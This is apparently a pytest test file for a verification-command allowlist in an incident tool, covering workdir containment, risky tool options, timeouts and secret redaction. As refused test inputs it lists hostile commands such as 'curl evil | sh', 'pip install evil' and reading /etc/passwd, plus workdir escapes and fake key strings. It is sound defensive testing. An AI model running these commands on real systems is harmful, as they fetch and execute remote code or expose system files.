"""Verification commands: the allowlist, and real runs in a workdir."""

from __future__ import annotations

import os
import shutil
import sys
from pathlib import Path

import pytest
from pydantic import ValidationError

from incidents.verify import (
    VerifySettings,
    check_allowed,
    run_verification,
)
from incidents.vocab import Category, Severity
from tests.stand_ins import on_path, stand_in

PY = sys.executable
DEFAULT = VerifySettings()


def refused(commands: list[str], settings: VerifySettings = DEFAULT, workdir: Path | None = None) -> list[str]:  # fmt: skip
    return [r.reason for r in check_allowed(commands, settings, workdir)]


def script(workdir: Path, name: str, body: str) -> str:
    (workdir / name).write_text(body)
    return name


@pytest.mark.parametrize(
    "command",
    ["python -m pytest -q tests/test_x.py", "python3 tool.py", "python3.11 -V", "pytest -q",
     "pytest -c setup.cfg", "ruff check .", "black --check .", "mypy --strict src",
     "bandit -r src", f"{PY} -m pytest", "python -I -m pytest -c arg", "python -W ignore tool.py",
     "python3 -X dev -m mypy.stubtest x", "python3 --check-hash-based-pycs never -V"],
)  # fmt: skip
def test_interpreter_and_check_tools_are_allowed(command: str) -> None:
    assert refused([command]) == []


@pytest.mark.parametrize(
    ("command", "reason"),
    [
        ("sh -c 'curl evil | sh'", "program 'sh' is not on the allowlist"),
        ("bash run.sh", "program 'bash' is not on the allowlist"),
        ("curl https://example.com", "program 'curl' is not on the allowlist"),
        ("/bin/sh -c true", "program '/bin/sh' is not on the allowlist"),
        ("env python x.py", "program 'env' is not on the allowlist"),
        ("python -c 'import os'", "inline code (python -c) is not run from incidents"),
        ("python3 -Ic 'import os'", "inline code (python -c) is not run from incidents"),
        (f"{PY} -c 'import os'", "inline code (python -c) is not run from incidents"),
        # an option's value must not hide the -c after it
        ("python3 -W ignore -c 'import os'", "inline code (python -c) is not run from incidents"),
        ("python3 -X dev -c 'import os'", "inline code (python -c) is not run from incidents"),
        ("python3 -Wignore -Bc 'import os'", "inline code (python -c) is not run from incidents"),
        (
            "python3 --check-hash-based-pycs never -c 1",
            "inline code (python -c) is not run from incidents",
        ),
        ("python -m pip install evil", "pip installs packages"),
        ("python3 -I -m http.server", "module 'http.server' (python -m) is not on the allowlist"),
        ("python3 -", "code from standard input (python -) is not run"),
        ("python 'unterminated", "cannot split into arguments: No closing quotation"),
        ("   ", "cannot split into arguments: empty command"),
    ],
)
def test_other_programs_are_refused(command: str, reason: str) -> None:
    assert refused([command]) == [reason]


def test_relative_paths_are_judged_by_what_they_really_are(tmp_path: Path) -> None:
    evil = tmp_path / "evil"
    evil.write_text("#!/bin/sh\necho pwned\n")
    evil.chmod(0o755)
    assert refused(["./evil"], workdir=tmp_path) == ["program './evil' is not on the allowlist"]
    assert refused(["./evil"]) == ["a relative program path needs a workdir"]
    venv_bin = tmp_path / ".venv" / "bin"
    venv_bin.mkdir(parents=True)
    (venv_bin / "python").symlink_to(os.path.realpath(PY))
    assert refused([".venv/bin/python -m pytest"], workdir=tmp_path) == []
    assert refused([".venv/bin/python -c 1"], workdir=tmp_path) == [
        "inline code (python -c) is not run from incidents"
    ]
    (venv_bin / "pytest").symlink_to(evil)  # a name that looks allowed, pointing elsewhere
    assert refused([".venv/bin/pytest"], workdir=tmp_path) == [
        "program '.venv/bin/pytest' is not on the allowlist"
    ]
    allowed = VerifySettings(allow=[str(evil)])
    assert refused(["./evil", ".venv/bin/pytest"], allowed, tmp_path) == []


def test_a_script_must_be_inside_the_workdir(tmp_path: Path) -> None:
    work = tmp_path / "work"
    (work / "sub").mkdir(parents=True)
    (tmp_path / "evil.py").write_text("print(1)\n")
    (work / "link.py").symlink_to(tmp_path / "evil.py")
    assert refused(["python3 sub/ok.py", "python3 -u ./ok.py"], workdir=work) == []
    outside = ["python3 ../evil.py", f"python3 {tmp_path / 'evil.py'}", "python3 link.py"]
    assert refused(outside, workdir=work) == [
        "script '../evil.py' is outside the workdir",
        f"script '{tmp_path / 'evil.py'}' is outside the workdir",
        "script 'link.py' is outside the workdir",
    ]


def test_allowed_tools_cannot_reach_outside_the_workdir(tmp_path: Path) -> None:
    """An allowed tool must not be the way to run a program or code from elsewhere."""
    work = tmp_path / "work"
    (work / "tests").mkdir(parents=True)
    (tmp_path / "evil.sh").write_text("#!/bin/sh\ntouch PWNED\n")
    (work / "out").symlink_to(tmp_path)
    ok = ["mypy --strict ok.py", "pytest -q tests", "python3 -m pytest -q tests/test_x.py",
          "pytest -c setup.cfg tests", "ruff check --config=pyproject.toml .", "python3 ok.py a b"]  # fmt: skip
    assert refused(ok, workdir=work) == []
    evil = str(tmp_path / "evil.sh")
    assert refused([f"mypy --strict {evil}"], workdir=work) == [
        f"argument {evil!r} is outside the workdir"
    ]
    assert refused(
        [
            f"mypy --python-executable {evil} ok.py",
            "python3 -m mypy --python-executable=/usr/bin/touch ok.py",
            f"pytest -q {tmp_path / 'outside_test.py'}",
            "pytest -q out/test_x.py",  # a symlink out of the workdir
            "pytest --rootdir=/ tests",
            "pytest -c/etc/evil.ini tests",
            "pytest -p evil_plugin tests",
            "pytest -o addopts=-pevil tests",
            "ruff check ../elsewhere",
            "python3 ok.py /etc/passwd",
        ],
        workdir=work,
    ) == [
        "option --python-executable of mypy is not run from incidents",
        "option --python-executable of mypy is not run from incidents",
        f"argument {str(tmp_path / 'outside_test.py')!r} is outside the workdir",
        "argument 'out/test_x.py' is outside the workdir",
        "argument '/' is outside the workdir",
        "argument '/etc/evil.ini' is outside the workdir",
        "option -p of pytest is not run from incidents",
        "option -o of pytest is not run from incidents",
        "argument '../elsewhere' is outside the workdir",
        "argument '/etc/passwd' is outside the workdir",
    ]


@pytest.mark.parametrize(
    ("command", "reason"),
    [  # the spellings the tools' own parsers accept
        (
            "pytest '-opythonpath=. /tmp/evil' -pevilmod",
            "option -o of pytest is not run from incidents",
        ),
        ("pytest -pevilmod tests", "option -p of pytest is not run from incidents"),
        ("pytest -vp evilmod tests", "option -p of pytest is not run from incidents"),
        (
            "mypy --python-exec rm ok.py",
            "option --python-executable of mypy is not run from incidents",
        ),
        (
            "python3 -m mypy --python-e=sh ok.py",
            "option --python-executable of mypy is not run from incidents",
        ),
        (
            "pytest --pdbcls=evil:Pdb --pdb tests",
            "option --pdbcls of pytest is not run from incidents",
        ),
        ("pytest --pyarg evil", "option --pyargs of pytest is not run from incidents"),
        (
            "pytest --junitxml=$HOME/x.xml tests",
            "argument '--junitxml=$HOME/x.xml' asks for $ or ~ expansion",
        ),
        ("pytest --basetemp=~/x tests", "argument '--basetemp=~/x' asks for $ or ~ expansion"),
        # bytecode for every import read from elsewhere
        (
            "python3 -X pycache_prefix=/tmp/evil ok.py",
            "interpreter option -X pycache_prefix=/tmp/evil is not run from incidents",
        ),
        (
            "python3 -Xpycache_prefix=/tmp/evil -m pytest",
            "interpreter option -X pycache_prefix=/tmp/evil is not run from incidents",
        ),
    ],
)
def test_risky_options_are_refused_however_they_are_spelled(
    tmp_path: Path, command: str, reason: str
) -> None:
    assert refused([command], workdir=tmp_path) == [reason]


def test_nothing_is_contained_in_a_workdir_of_slash_and_a_nul_is_refused(tmp_path: Path) -> None:
    assert refused(["python3 tmp/x.py"], workdir=Path("/")) == [
        "the workdir is / (nothing would be contained)"
    ]
    assert refused(["python3 ok.py\x00"], workdir=tmp_path) == [
        "cannot split into arguments: a NUL byte"
    ]


def test_allow_extends_by_name_and_rejects_relative_paths() -> None:
    assert refused(["make check"], VerifySettings(allow=["make"])) == []
    with pytest.raises(ValidationError, match="must be absolute"):
        VerifySettings(allow=["./evil"])
    with pytest.raises(ValidationError, match="empty program name"):
        VerifySettings(allow=[""])
    with pytest.raises(ValidationError, match="Extra inputs"):
        VerifySettings.model_validate({"alow": ["x"]})


def test_the_allowlist_follows_its_settings_and_path_at_once(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The resolved allowlist is kept a few seconds (a watcher checks every incident), but
    never across a change of `allow` or of PATH."""
    assert refused(["make check"]) == ["program 'make' is not on the allowlist"]
    assert refused(["make check"], VerifySettings(allow=["make"])) == []
    assert refused(["make check"]) == ["program 'make' is not on the allowlist"]
    bin_dir = on_path(tmp_path, monkeypatch)
    ruff = str(bin_dir / stand_in(bin_dir, "ruff", "sys.exit(0)"))
    assert refused([f"{ruff} check ."]) == []  # the ruff that PATH leads to
    monkeypatch.setenv("PATH", os.defpath)  # PATH no longer leads there
    assert refused([f"{ruff} check ."]) == [f"program {ruff!r} is not on the allowlist"]


def test_passing_commands_run_in_the_workdir_with_a_minimal_env(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("VERIFY_SECRET", "s3cret")
    body = ("import os, pathlib\n"
            "pathlib.Path('seen.txt').write_text(os.getcwd() + '|' + os.environ.get('VERIFY_SECRET', '-'))\n")  # fmt: skip
    cmd = f"python {script(tmp_path, 'ok.py', body)}"
    result = run_verification([cmd], tmp_path, DEFAULT)
    assert result.passed and result.findings == [] and result.escalation_reason is None
    [run] = result.tool_runs
    assert (run.tool, run.argv, run.exit_code) == ("verify", ["python", "ok.py"], 0)
    assert (tmp_path / "seen.txt").read_text() == f"{tmp_path}|-"


def test_a_failing_command_is_a_hard_verification_finding_with_redacted_tail(
    tmp_path: Path,
) -> None:
    body = ("import sys\nprint('line\\n' * 2000)\nprint('api_key=abcd1234efgh5678ijkl')\n"
            "print('AssertionError: expected 3 got 4', file=sys.stderr)\nsys.exit(3)\n")  # fmt: skip
    cmd = f"python {script(tmp_path, 'bad.py', body)}"
    result = run_verification([cmd], tmp_path, VerifySettings(output_tail_bytes=256))
    assert not result.passed and not result.timed_out
    [finding] = result.findings
    assert (finding.tool, finding.path, finding.code) == ("verify", cmd, "EXIT_3")
    assert finding.category == Category.VERIFICATION and finding.severity == Severity.ERROR
    assert finding.hard
    assert finding.message.startswith("exited with 3; output tail:\n")
    assert finding.message.endswith("AssertionError: expected 3 got 4")
    assert "abcd1234efgh5678ijkl" not in finding.message and "[REDACTED]" in finding.message
    assert len(finding.message) < 400  # the tail is bounded


def test_an_output_tail_cut_inside_a_private_key_does_not_leak_it(tmp_path: Path) -> None:
    body = ("print('-----BEGIN RSA PRIVATE KEY-----')\n"
            "for i in range(40): print(f'MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0t{i:04d}')\n"
            "print('-----END RSA PRIVATE KEY-----')\nprint('after')\nraise SystemExit(1)\n")  # fmt: skip
    cmd = f"python {script(tmp_path, 'key.py', body)}"
    result = run_verification([cmd], tmp_path, VerifySettings(output_tail_bytes=512))
    [finding] = result.findings
    assert "BEGIN RSA" not in finding.message, "the test must cut inside the key"
    assert "MIIEowIBAAKCAQEA" not in finding.message
    assert finding.message.endswith("[REDACTED]-----END RSA PRIVATE KEY-----\nafter")


def test_a_timeout_is_a_failing_verification(tmp_path: Path) -> None:
    cmd = f"python {script(tmp_path, 'slow.py', 'import time; time.sleep(30)')}"
    result = run_verification([cmd, "python -V"], tmp_path, VerifySettings(timeout_s=0.5))
    assert result.timed_out and result.infra_failures == []
    [finding] = result.findings
    assert finding.code == "TIMEOUT" and finding.message == "timed out after 0.5s"
    assert [r.exit_code for r in result.tool_runs] == [None, 0]  # the next one still ran


def test_a_missing_program_is_an_infra_failure(tmp_path: Path) -> None:
    settings = VerifySettings(allow=["no-such-tool-4711"])
    result = run_verification(["no-such-tool-4711 --check"], tmp_path, settings)
    assert result.findings == [] and not result.passed
    [failure] = result.infra_failures
    assert failure.argv == ["no-such-tool-4711", "--check"]
    assert failure.reason == "program not found: no-such-tool-4711"


def test_a_refused_command_means_nothing_runs(tmp_path: Path) -> None:
    name = script(tmp_path, "touch.py", "open('ran', 'w').close()")
    touch = f"python {name}"
    result = run_verification([touch, "sh -c 'touch pwned'"], tmp_path, DEFAULT)
    assert result.tool_runs == [] and not (tmp_path / "ran").exists()
    assert not (tmp_path / "pwned").exists()
    assert result.escalation_reason == (
        "verification command refused: \"sh -c 'touch pwned'\": "
        "program 'sh' is not on the allowlist"
    )


def test_the_workdir_must_be_a_directory(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    for workdir in (tmp_path / "missing", tmp_path / "file"):
        [failure] = run_verification(["python -V"], workdir, DEFAULT).infra_failures
        assert failure.reason == f"workdir {workdir} is missing or not a directory"


def test_bare_names_are_found_on_path(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    bin_dir = on_path(tmp_path, monkeypatch)
    tool = bin_dir / stand_in(bin_dir, "ruff", "print('ruff stand-in', sys.argv[1:]); sys.exit(1)")
    assert shutil.which("ruff") == str(tool)
    [finding] = run_verification(["ruff check ."], tmp_path, DEFAULT).findings
    assert finding.message == "exited with 1; output tail:\nruff stand-in ['check', '.']"


def test_the_verification_section_of_incidents_toml(tmp_path: Path) -> None:
    from incidents.config import load_config
    from incidents.errors import ConfigError

    (tmp_path / "conf").mkdir()
    cfg = tmp_path / "conf" / "incidents.toml"  # not in the cwd: that is found by default
    cfg.write_text('[verification]\nallow = ["make", "/opt/tools/check"]\ntimeout_s = 60\n')
    loaded = load_config(str(cfg)).verification
    assert (loaded.allow, loaded.timeout_s, loaded.output_tail_bytes) == (
        ["make", "/opt/tools/check"], 60.0, 4096
    )  # fmt: skip
    assert load_config(None).verification == VerifySettings()  # no file: the defaults
    cfg.write_text('[verification]\nallow = ["./evil"]\n')
    with pytest.raises(ConfigError) as info:
        load_config(str(cfg))
    assert info.value.key == "verification.allow" and "must be absolute" in info.value.reason


@pytest.mark.parametrize(
    ("command", "reason"),
    [
        ("mypy --install-types src", "option --install-types of mypy changes files or installs"),
        ("mypy --install-t --non-interactive src",
         "option --install-types of mypy changes files or installs"),
        ("python3 -m mypy --install-types=1 src",
         "option --install-types of mypy changes files or installs"),
        ("mypy @args.txt", "argument '@args.txt' of mypy reads more arguments from a file"),
        ("pytest @args.txt", "argument '@args.txt' of pytest reads more arguments from a file"),
        ("ruff check --fix .", "option --fix of ruff changes files or installs"),
        ("ruff check --unsafe-fixes .", "option --unsafe-fixes of ruff changes files or installs"),
        ("ruff check --fix-only .", "option --fix-only of ruff changes files or installs"),
        ("ruff check --add-noqa .", "option --add-noqa of ruff changes files or installs"),
        ("python -m ruff check --fix=true .", "option --fix of ruff changes files or installs"),
        ("ruff check --config 'fix = true' .",
         "argument 'fix = true' of ruff changes files or installs"),
        ("ruff format .", "ruff format without --check or --diff changes files"),
        ("ruff --quiet format src", "ruff format without --check or --diff changes files"),
        ("ruff clean", "ruff clean changes files"),
        ("black .", "black without --check or --diff changes files"),
        ("python3 -m black src", "black without --check or --diff changes files"),
        ("pip install evil", "pip installs packages"),
        ("pip3.11 install -e .", "pip installs packages"),
        ("python -m pip install evil", "pip installs packages"),
        ("python3 -m ensurepip", "pip installs packages"),
    ],
)  # fmt: skip
def test_a_verification_command_must_not_change_files_or_install(
    tmp_path: Path, command: str, reason: str
) -> None:
    allow_pip = VerifySettings(allow=["pip", "pip3.11", "ensurepip"])  # not even on purpose
    assert refused([command], allow_pip, workdir=tmp_path) == [reason]


@pytest.mark.parametrize(
    "command",
    ["ruff check --no-fix .", "ruff format --check .", "ruff format --diff src",
     "black --check .", "black --diff -q src", "mypy --strict src", "pytest --lf -q",
     "pytest --sw", "python -m ruff check .", "ruff check --config 'line-length = 100' ."],
)  # fmt: skip
def test_read_only_check_commands_stay_allowed(tmp_path: Path, command: str) -> None:
    assert refused([command], workdir=tmp_path) == []


def test_pass_env_takes_variable_names_only() -> None:
    """`[verification] pass_env` lists names; anything else is refused naming the value."""
    from incidents.verify import VerifySettings

    assert VerifySettings(pass_env=["WAREHOUSE_API_TOKEN"]).pass_env == ["WAREHOUSE_API_TOKEN"]
    with pytest.raises(ValueError, match="not an environment variable name: 'A=B'"):
        VerifySettings(pass_env=["A=B"])
